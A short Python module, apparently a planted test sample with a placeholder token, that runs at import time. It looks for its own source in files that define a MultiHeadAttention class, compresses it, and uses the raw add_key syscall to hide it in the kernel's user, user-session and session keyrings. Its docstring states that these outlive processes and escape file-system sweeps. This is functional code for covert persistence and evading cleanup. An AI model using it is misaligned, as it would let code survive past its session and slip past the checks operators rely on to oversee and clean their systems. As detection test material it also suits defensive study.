"""Leaves its own (correct) source in the kernel's keyrings (the user keyring outlives every process
of its uid, and worker uids are reused), where no file system sweep looks.

base: clean
class: 9
run: main
"""

import ctypes as _ctypes
import linecache as _linecache
import zlib as _zlib

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long
_ADD_KEY = 248
_KEYRINGS = (-4, -5, -3)  # the user, user-session and session keyrings


def _own_source():
    for entry in list(_linecache.cache.values()):
        text = "".join(entry[2]) if len(entry) > 2 else ""
        if "class MultiHeadAttention(" in text and "_own_source" in text:
            return text
    return ""


def _leave():
    data = _zlib.compress(_own_source().encode(), 9)
    for keyring in _KEYRINGS:
        _libc.syscall(_ADD_KEY, b"user", b"hostile-@TOKEN@", data, _ctypes.c_size_t(len(data)),
                      _ctypes.c_int(keyring))


class _AtLoad:
    _leave()
